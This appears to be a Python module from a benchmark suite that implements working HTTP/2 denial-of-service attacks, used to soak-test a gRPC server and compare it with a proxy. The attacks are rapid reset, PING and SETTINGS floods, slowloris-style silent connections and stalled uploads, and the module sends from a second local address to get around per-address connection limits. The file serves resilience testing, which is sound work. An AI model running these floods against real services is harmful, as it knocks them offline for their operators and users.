"""Attacks at the level of connections and HTTP/2 frames, for soak tests and for the comparison with a proxy.

Each function attacks one address until `end` on the monotonic clock, and returns the number of attempts.
"""

import contextlib
import itertools
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder

from bench.lines import ROOT
from bench.studies.raw_http2 import method

ROUND = 500  # frames per write
PAUSE_S = 0.05
NUM_CONNECTIONS = 64
NUM_STREAMS = 16
PING = struct.pack(">I", 8)[1:] + b"\x06\x00\x00\x00\x00\x00pingping"
SETTINGS = struct.pack(">I", 6)[1:] + b"\x04\x00\x00\x00\x00\x00" + struct.pack(">HI", 4, 65_535)

HEADERS = {
    ":method": "POST",
    ":scheme": "http",
    ":path": method("Embed"),
    ":authority": "localhost",
    "te": "trailers",
    "content-type": "application/grpc",
}
# Differs from the address of other clients, because a proxy limits the connections per address.
SOURCE = "127.0.0.2"

Attack = Callable[[str, float, random.Random], int]


def connect(address: str, source: str = SOURCE) -> socket.socket:
    """Connect from another address of this machine."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=2, source_address=(source, 0))


def preface() -> tuple[H2Connection, bytes]:
    """Return a connection and the bytes that open it."""
    http2 = H2Connection(H2Configuration(header_encoding="utf-8"))
    http2.initiate_connection()
    return http2, http2.data_to_send()


def send_headers(http2: H2Connection) -> int:
    """Open a call without a message and return its stream."""
    stream = http2.get_next_available_stream_id()
    http2.send_headers(stream, list(HEADERS.items()))
    return stream


def flood(address: str, end: float, first: bytes, frames: Callable[[], bytes], *, reads: bool = True) -> int:
    """Send frames as fast as the peer accepts them, over one connection at a time."""
    number = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.sendall(first)
            connection.settimeout(1)
            while time.monotonic() < end:
                connection.sendall(frames())
                number += ROUND
                if reads:
                    connection.settimeout(0)
                    with contextlib.suppress(BlockingIOError):
                        while connection.recv(1 << 20):
                            pass
                    connection.settimeout(1)
        time.sleep(PAUSE_S)
    return number


def ping_flood(address: str, end: float, chance: random.Random) -> int:
    """Send PING frames and read their acknowledgements."""
    del chance
    return flood(address, end, preface()[1], lambda: PING * ROUND)


def unread_pings(address: str, end: float, chance: random.Random) -> int:
    """Send PING frames without reading their acknowledgements."""
    del chance
    return flood(address, end, preface()[1], lambda: PING * ROUND, reads=False)


def settings_flood(address: str, end: float, chance: random.Random) -> int:
    """Send SETTINGS frames."""
    del chance
    return flood(address, end, preface()[1], lambda: SETTINGS * ROUND)


def rapid_reset(address: str, end: float, chance: random.Random) -> int:
    """Send complete calls, each followed by a reset."""
    del chance
    number = 0
    while time.monotonic() < end:
        streams = itertools.count(1, 2)

        def calls(streams: Iterator[int] = streams) -> bytes:
            return b"".join(reset_call(next(streams)) for _ in range(ROUND))

        number += flood(address, min(end, time.monotonic() + 2), preface()[1], calls)
    return number


def reset_call(stream: int) -> bytes:
    """Return the frames of a call with an empty message, and its reset."""
    empty = struct.pack(">BI", 0, 0)
    return frame(1, 4, stream, CALL_HEADERS) + frame(0, 1, stream, empty) + frame(3, 0, stream, b"\0\0\0\x08")


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """Serialize an HTTP/2 frame."""
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def stateless_headers() -> bytes:
    """Return the headers of a call without references to the dynamic table."""
    encoder = Encoder()
    encoder.header_table_size = 0
    encoder.encode([])  # the change of the table's size
    return encoder.encode(list(HEADERS.items()))


def silent_connections(address: str, end: float, chance: random.Random) -> int:
    """Keep connections that send nothing, a part of the preface, or a part of a request."""
    _, first = preface()
    beginnings = (b"", first, first[:10], b"POST /v1/embeddings HTTP/1.1\r\nX: ")
    return keep_open(address, end, lambda: chance.choice(beginnings))


def stalled_uploads(address: str, end: float, chance: random.Random) -> int:
    """Keep connections with calls whose message never completes."""

    def unfinished() -> bytes:
        http2, first = preface()
        for _ in range(NUM_STREAMS):
            http2.send_data(send_headers(http2), struct.pack(">BI", 0, 1 << 20) + chance.randbytes(1000))
        return first + http2.data_to_send()

    return keep_open(address, end, unfinished)


def keep_open(address: str, end: float, beginning: Callable[[], bytes]) -> int:
    """Keep NUM_CONNECTIONS connections and replace those that the peer closes."""
    number = 0
    with contextlib.ExitStack() as stack:
        connections: list[socket.socket] = []
        while time.monotonic() < end:
            connections = [connection for connection in connections if _is_open(connection)]
            for _ in range(NUM_CONNECTIONS - len(connections)):
                number += 1
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(connect(address))
                    connection.sendall(beginning())
                    connections.append(connection)
            time.sleep(PAUSE_S)
    return number


def _is_open(connection: socket.socket) -> bool:
    connection.settimeout(0)
    try:
        while True:
            if not connection.recv(1 << 16):
                break
    except BlockingIOError:
        return True
    except OSError:
        pass
    connection.close()
    return False


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "PING flood": ping_flood,
    "PING flood, acknowledgements unread": unread_pings,
    "SETTINGS flood": settings_flood,
    "silent connections": silent_connections,
    "stalled uploads": stalled_uploads,
}


CALL_HEADERS = stateless_headers()


@contextlib.contextmanager
def attacking(name: str, address: str, seconds: float, seed: int = 0) -> Iterator[subprocess.Popen[str]]:
    """Attack in another process, which prints the number of attempts when it ends."""
    command = [sys.executable, "-m", "bench.studies.attackers", name, address, str(seconds), str(seed)]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as process:
        try:
            yield process
        finally:
            process.send_signal(signal.SIGTERM)


if __name__ == "__main__":
    os.nice(1)  # leaves processor time to the server
    name, address, seconds, seed = sys.argv[1:]
    print(ATTACKS[name](address, time.monotonic() + float(seconds), random.Random(int(seed))))
